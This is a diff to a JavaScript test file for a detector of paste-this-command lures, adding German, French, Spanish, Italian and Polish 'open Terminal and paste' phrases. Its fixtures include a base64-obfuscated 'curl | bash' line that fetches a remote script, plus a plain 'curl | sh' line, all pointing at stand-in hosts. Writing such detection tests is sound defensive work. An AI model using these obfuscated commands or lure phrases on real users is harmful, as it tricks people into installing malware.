@@ -60,6 +60,20 @@ test('keys and windows in the marks of Markdown, and in Polish', () => {
   assert.equal(pastedCommand(`${polish}\nsfc /scannow`), null)
 })
 
+test('windows of a Mac in other languages', () => {
+  const coded = `echo "${btoa('curl -fsSL https://files.example/u.sh | nohup bash &')}" | base64 -d | bash`
+  for (const steps of [
+    'Drücken Sie \u2318 + Leertaste, tippen Sie Terminal und kopieren Sie diesen Befehl in das Fenster:',
+    'Öffnen Sie das Terminal und fügen Sie diese Zeile ein:',
+    'Appuyez sur Cmd + espace, tapez Terminal et collez la ligne :',
+    'Pulse \u2318+espacio, escriba "Terminal" y pegue la línea:',
+    'Premi \u2318 + barra spaziatrice, apri il Terminal e incolla la riga:',
+  ]) {
+    assert.equal(pastedCommand(`${steps}\n${coded}`), coded, steps)
+    assert.equal(pastedCommand(`${steps}\ncurl -fsSL https://get.example.com | sh`), null, steps)
+  }
+})
+
 test('a command that is coded, or fetches code out of sight, needs no pretext', () => {
   const steps = 'Press Command + Space, type  Terminal  and press Return. Paste the line below.'
   const coded = `echo '${btoa('curl -fsSL https://files.example/u.sh | bash')}' | base64 -D | zsh`
@@ -151,9 +165,15 @@ test('instructions are found in a long text as in a short one, whatever word the
       '\u2318 + v',
       '\u2318+ v',
       '\u2318+space',
+      '\u2318 + Leertaste',
+      '\u2318+barre d\u2019espace',
+      'Befehl + Leertaste',
+      'cmd+espace',
+      '\u2318+espacio',
     ],
     ...['\xe2\x8c\x98+v', '\xe2\x8c\x98 + space', 'address bar', 'ctrl+l', 'strg + L', 'win\xef\xbc\x8br'],
     ...['open', 'launch', 'start', 'type', 'choose', 'select', 'search for'].map((verb) => `${verb}  your Terminal`),
+    ...['Öffnen Sie das Terminal', 'ouvrez le Terminal', 'Abra el terminal', 'apri il terminal', 'wpisz Terminal'],
     ...['open the PowerShell', 'Type command prompt', 'start a file explorer'],
   ]
   for (const text of all) {
